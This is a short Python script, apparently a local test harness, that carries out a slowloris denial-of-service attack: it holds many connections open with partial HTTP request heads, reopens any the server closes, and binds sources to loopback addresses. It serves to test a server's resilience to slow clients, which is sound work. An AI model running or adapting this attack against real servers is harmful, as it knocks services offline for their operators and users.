#!/usr/bin/env python3
"""slowloris.py HOST PORT COUNT [ADDRESSES] - holds COUNT connections to
HOST:PORT open the way a slowloris attack does: each sends the start of a
request head and then one header line every few seconds, never the blank
line that ends it; a connection the server closes is opened again. Sources
are spread over ADDRESSES loopback addresses from 127.0.0.2 (default 16),
as many clients would be. Runs until killed; writes the number of
connections open to stdout once a second."""
import random, selectors, socket, sys, time

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
naddr = int(sys.argv[4]) if len(sys.argv) > 4 else 16
sel = selectors.DefaultSelector()
conns = {}  # socket -> next send time

def open_one(i):
    s = socket.socket()
    s.setblocking(False)
    s.bind(("127.0.0.%d" % (2 + i % naddr), 0))
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        s.close()
        return
    sel.register(s, selectors.EVENT_READ)
    conns[s] = [time.time() + random.random(), 0]

for i in range(count):
    open_one(i)
last = 0
n = count
while True:
    now = time.time()
    for key, _ in sel.select(timeout=0.05):  # the server answered (408) or closed: open another
        s = key.fileobj
        try:
            s.recv(4096)
        except OSError:
            pass
        sel.unregister(s)
        s.close()
        del conns[s]
        n += 1
        open_one(n)
    for s, st in list(conns.items()):
        if st[0] <= now:
            try:
                s.send(b"GET /health HTTP/1.1\r\nHost: x\r\n" if st[1] == 0 else b"X-a: b\r\n")
                st[1] += 1
            except OSError:
                pass
            st[0] = now + 5
    if now - last >= 1:
        print(len(conns), flush=True)
        last = now
